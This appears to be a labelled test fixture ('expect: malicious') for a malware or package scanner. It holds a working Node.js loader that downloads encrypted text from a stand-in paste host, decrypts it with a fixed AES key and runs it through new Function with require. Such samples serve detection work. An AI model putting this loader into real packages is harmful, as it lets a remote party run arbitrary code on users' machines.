// expect: malicious
// source: loaders that fetch an encrypted second stage and run it (e.g. the 2024-2025 "encrypted
// payload from a paste site" droppers): no blob in the package, the decrypted bytes reach `Function`.
const https = require('https'), crypto = require('crypto');
const KEY = Buffer.alloc(32, 7), IV = Buffer.alloc(16, 1);
https.get('https://paste.loader-demo.example/raw/x', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => {
    const d = crypto.createDecipheriv('aes-256-cbc', KEY, IV);
    const code = d.update(body, 'base64', 'utf8') + d.final('utf8');
    new Function('require', code)(require);
  });
});
